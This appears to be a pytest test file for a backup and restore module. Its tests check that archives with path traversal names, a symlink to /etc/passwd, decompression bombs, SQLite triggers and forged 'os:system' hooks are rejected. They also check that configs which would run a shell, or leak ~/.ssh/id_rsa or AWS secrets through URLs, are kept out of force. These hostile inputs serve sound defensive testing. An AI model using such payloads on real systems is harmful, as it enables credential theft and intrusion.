"""What is backed up comes back; what is no backup does no harm."""

from __future__ import annotations

import dataclasses
import gzip
import io
import os
import sqlite3
import stat
import tarfile
from contextlib import closing
from datetime import timedelta
from pathlib import Path

import pytest

from presswatch.backup import read_backup, write_backup
from presswatch.config.parse import MAX_FILE_BYTES
from presswatch.paths import Home
from scraper.clock import to_text, utc_now
from scraper.errors import PresswatchError, StoreError
from scraper.store.captures import MOST_STORED, read_capture, write_capture
from scraper.store.db import open_store
from scraper.store.leases import acquire, holder_name
from tests.presswatch.web.conftest import PAGE, make_database


def _home(folder: Path) -> Home:
    return Home(folder / "presswatch.toml", folder)


@pytest.fixture
def home(tmp_path: Path) -> Home:
    made = _home(tmp_path / "home")
    made.data_dir.mkdir()
    make_database(made.db_path, items=3)
    made.config_path.write_text("# mine\n", encoding="utf-8")
    return made


def _titles(home: Home) -> list[str]:
    with closing(sqlite3.connect(home.db_path)) as conn:
        return [row[0] for row in conn.execute("SELECT title FROM items ORDER BY id")]


def test_a_backup_comes_back(home: Home, tmp_path: Path) -> None:
    target = tmp_path / "saved.tar.gz"
    writer = open_store(home.db_path)  # a service goes on
    try:
        assert write_backup(home, target) == 1
    finally:
        writer.close()
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    other = _home(tmp_path / "other")
    assert read_backup(target, other, trusted=True) == other.config_path
    assert _titles(other) == _titles(home)
    assert other.config_path.read_text(encoding="utf-8") == "# mine\n"
    captures = list(other.captures_dir.glob("*/*.zst"))
    assert len(captures) == 1
    assert PAGE
    assert not [path for path in (*tmp_path.iterdir(), *other.data_dir.iterdir()) if path.name.startswith(".")]


def _hold(home: Home) -> None:
    now = utc_now()
    with closing(open_store(home.db_path)) as store, store.transaction() as conn:
        for name in ("daemon", "outbox", "source:1", "site:ministry.example"):
            assert acquire(conn, name, holder_name(), timedelta(minutes=2), now) is not None
        conn.execute(
            "INSERT INTO workers(name, version, protocol, host, pid, started_at, heard_at, reading, done, failed) "
            "VALUES ('w:1', '1', 1, 'w', 1, :now, :now, 1, 1, 0)",
            {"now": to_text(now)},
        )
        conn.execute("INSERT INTO fleet VALUES (1, ?, 1, 3, 1.5, 1.5)", (to_text(now),))


def _held(path: Path) -> tuple[int, ...]:
    counts = "leases WHERE holder IS NOT NULL OR expires_at IS NOT NULL", "workers", "fleet"
    with closing(sqlite3.connect(path)) as conn:
        return tuple(conn.execute(f"SELECT count(*) FROM {each}").fetchone()[0] for each in counts)  # noqa: S608


def test_what_running_processes_hold_stays_where_they_run(home: Home, tmp_path: Path) -> None:
    _hold(home)
    write_backup(home, tmp_path / "saved.tar.gz")
    assert _held(home.db_path) == (4, 1, 1), "the service goes on"
    other = _home(tmp_path / "other")
    read_backup(tmp_path / "saved.tar.gz", other, trusted=True)
    assert _held(other.db_path) == (0, 0, 0)
    with closing(open_store(other.db_path)) as store, store.transaction() as conn:
        assert acquire(conn, "daemon", "elsewhere/1:1:1", timedelta(minutes=2), utc_now()) == 2, "older tokens are void"


@pytest.mark.parametrize("trusted", [True, False])
def test_a_copy_made_by_hand_forgets_its_processes_too(trusted: bool, home: Home, tmp_path: Path) -> None:
    _hold(home)
    with tarfile.open(tmp_path / "by-hand.tar.gz", "w:gz") as tar:
        tar.add(home.db_path, "presswatch.db")
    other = _home(tmp_path / "other")
    read_backup(tmp_path / "by-hand.tar.gz", other, trusted=trusted)
    assert _held(other.db_path) == (0, 0, 0)


def test_the_largest_that_is_kept_comes_back(home: Home, tmp_path: Path) -> None:
    picture = os.urandom(13_000_000)  # as one of a page full of photographs
    with closing(open_store(home.db_path)) as store, store.transaction() as conn:
        kept = write_capture(
            home.captures_dir, picture, content_type="image/png", url="https://a.example/", retention="screenshot"
        )
        conn.execute(
            "INSERT INTO captures(sha256, bytes, stored_bytes, content_type, url, retention, captured_at) "
            "VALUES (?, ?, ?, ?, ?, ?, '2026-01-01T00:00:00.000Z')",
            dataclasses.astuple(kept),
        )
    text = "# a long list\n" * 1_200_000
    assert 15_000_000 < len(text) < MAX_FILE_BYTES
    home.config_path.write_text(text, encoding="utf-8")
    write_backup(home, tmp_path / "saved.tar.gz")
    other = _home(tmp_path / "other")
    assert read_backup(tmp_path / "saved.tar.gz", other, trusted=True) == other.config_path
    assert read_capture(other.captures_dir, kept.sha256) == picture
    assert other.config_path.read_text(encoding="utf-8") == text


def test_nothing_is_overwritten(home: Home, tmp_path: Path) -> None:
    target = tmp_path / "saved.tar.gz"
    write_backup(home, target, captures=False)
    before = target.read_bytes()
    with pytest.raises(PresswatchError, match="never overwritten"):
        write_backup(home, target)
    assert target.read_bytes() == before
    with pytest.raises(PresswatchError, match="where there is none"):
        read_backup(target, home)
    home.db_path.unlink()
    home.config_path.write_text("# newer\n", encoding="utf-8")
    assert read_backup(target, home) is None
    assert home.config_path.read_text(encoding="utf-8") == "# newer\n"


@pytest.mark.parametrize(
    "name", ["../evil", "/etc/evil", "captures/../../evil", "captures/ab/evil.zst", "presswatch.db-wal", "x\x1b[2J"]
)
def test_a_file_by_another_name_is_not_unpacked(name: str, tmp_path: Path) -> None:
    source = tmp_path / "evil.tar.gz"
    with tarfile.open(source, "w:gz") as tar:
        member = tarfile.TarInfo(name)
        member.size = 3
        tar.addfile(member, io.BytesIO(b"bad"))
    home = _home(tmp_path / "home")
    with pytest.raises(PresswatchError, match="in no backup"):
        read_backup(source, home)
    assert not home.db_path.exists()
    assert not list(tmp_path.rglob("evil"))


def test_a_link_is_not_unpacked(tmp_path: Path) -> None:
    source = tmp_path / "evil.tar.gz"
    with tarfile.open(source, "w:gz") as tar:
        member = tarfile.TarInfo("presswatch.db")
        member.type, member.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(member)
    with pytest.raises(PresswatchError, match="in no backup"):
        read_backup(source, _home(tmp_path / "home"))


def _with(target: Path, home: Home, name: str, content: bytes) -> Path:
    """A backup of ``home`` in which one file is another."""
    write_backup(home, target.with_suffix(".real"))
    with tarfile.open(target.with_suffix(".real")) as real, tarfile.open(target, "w:gz") as tar:
        for member in real:
            if member.name != name:
                tar.addfile(member, real.extractfile(member))
        info = tarfile.TarInfo(name)
        info.size = len(content)
        tar.addfile(info, io.BytesIO(content))
    return target


def test_a_file_that_unfolds_beyond_its_bounds_is_not_unpacked(home: Home, tmp_path: Path) -> None:
    source = _with(tmp_path / "bomb.tar.gz", home, "presswatch.toml", bytes(MAX_FILE_BYTES + 1))
    other = _home(tmp_path / "other")
    with pytest.raises(PresswatchError, match="larger than it can be"):
        read_backup(source, other)
    assert not other.db_path.exists()


@pytest.mark.parametrize(
    ("name", "size"), [(f"captures/ab/{'ab' * 32}.zst", MOST_STORED + 1), ("presswatch.db", 1 << 60)]
)
def test_a_file_that_says_that_it_is_too_large_is_not_unpacked(tmp_path: Path, name: str, size: int) -> None:
    source = tmp_path / "bomb.tar.gz"
    member = tarfile.TarInfo(name)
    member.size = size
    source.write_bytes(gzip.compress(member.tobuf() + bytes(10_240)))
    with pytest.raises(PresswatchError, match="larger than it can be"):
        read_backup(source, _home(tmp_path / "home"))
    assert not (tmp_path / "home" / "presswatch.db").exists()


def test_a_sparse_file_is_not_unpacked(home: Home, tmp_path: Path) -> None:
    source = tmp_path / "sparse.tar.gz"
    with tarfile.open(source, "w:gz", format=tarfile.GNU_FORMAT) as tar:
        member = tarfile.TarInfo("presswatch.db")
        member.type = tarfile.GNUTYPE_SPARSE
        tar.addfile(member)
    with pytest.raises(PresswatchError):
        read_backup(source, _home(tmp_path / "other"))


@pytest.mark.parametrize(
    "content",
    [
        '[channels.a]\ntype = "command"\ncommand = ["/bin/sh", "-c", "id"]\n',
        '[channels.a]\ntype = "webhook"\nurl = "http://a.example/?k=${file:/root/.ssh/id_rsa}"\n',
        '[channels.a]\ntype = "file"\npath = "../.bashrc"\n',
        '[presswatch]\nheartbeat = "https://a.example/${env:AWS_SECRET_ACCESS_KEY}"\n',
        "# nothing\n",
        "not [ toml",
    ],
)
def test_a_configuration_that_nobody_has_read_is_not_put_in_force(home: Home, tmp_path: Path, content: str) -> None:
    source = _with(tmp_path / "evil.tar.gz", home, "presswatch.toml", content.encode())
    for folder in ("other", "another"):
        other = _home(tmp_path / folder)
        trusted = folder == "another"
        put = read_backup(source, other, trusted=trusted)
        assert put == (other.config_path if trusted else other.config_path.with_name("presswatch.toml.restored"))
        assert put.read_text(encoding="utf-8") == content
        assert stat.S_IMODE(put.stat().st_mode) == 0o600
        assert stat.S_IMODE(other.db_path.stat().st_mode) == 0o600
        assert stat.S_IMODE(other.data_dir.stat().st_mode) == 0o700
        assert other.config_path.exists() == trusted
        assert _titles(other) == _titles(home)


def test_a_database_that_nobody_has_read_starts_no_programs(home: Home, tmp_path: Path) -> None:
    with closing(sqlite3.connect(home.db_path, isolation_level=None)) as conn:
        conn.execute(
            "INSERT INTO recipes(source_id, origin, created_at, hook) "
            "SELECT id, 'hand', '2026-01-01T00:00:00.000Z', 'os:system' FROM sources"
        )
        conn.execute("UPDATE sources SET config_sha256 = 'forged'")
    source = tmp_path / "evil.tar.gz"
    write_backup(home, source)
    other = _home(tmp_path / "other")
    read_backup(source, other)
    with closing(sqlite3.connect(other.db_path)) as conn:
        assert not conn.execute("SELECT 1 FROM recipes WHERE hook IS NOT NULL AND retired_at IS NULL").fetchall()
        assert conn.execute("SELECT DISTINCT config_sha256 FROM sources").fetchall() == [(None,)]
    assert _titles(other) == _titles(home)


def test_a_database_with_triggers_of_its_own_is_not_restored(home: Home, tmp_path: Path) -> None:
    with closing(sqlite3.connect(home.db_path, isolation_level=None)) as conn:
        conn.execute(
            "CREATE TRIGGER evil AFTER UPDATE ON sources "
            "BEGIN UPDATE recipes SET hook = 'os:system', retired_at = NULL; END"
        )
    source = tmp_path / "evil.tar.gz"
    write_backup(home, source)
    other = _home(tmp_path / "other")
    with pytest.raises(PresswatchError, match="triggers"):
        read_backup(source, other)
    assert not other.db_path.exists()


def test_a_damaged_backup_leaves_no_database(home: Home, tmp_path: Path) -> None:
    target = tmp_path / "saved.tar.gz"
    write_backup(home, target)
    target.write_bytes(target.read_bytes()[:-2_000])
    other = _home(tmp_path / "other")
    with pytest.raises(PresswatchError):
        read_backup(target, other)
    assert not other.db_path.exists()
    assert not other.captures_dir.exists()


def test_without_a_database_there_is_no_backup(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="no database yet"):
        write_backup(_home(tmp_path), tmp_path / "saved.tar.gz")
    assert list(tmp_path.iterdir()) == []
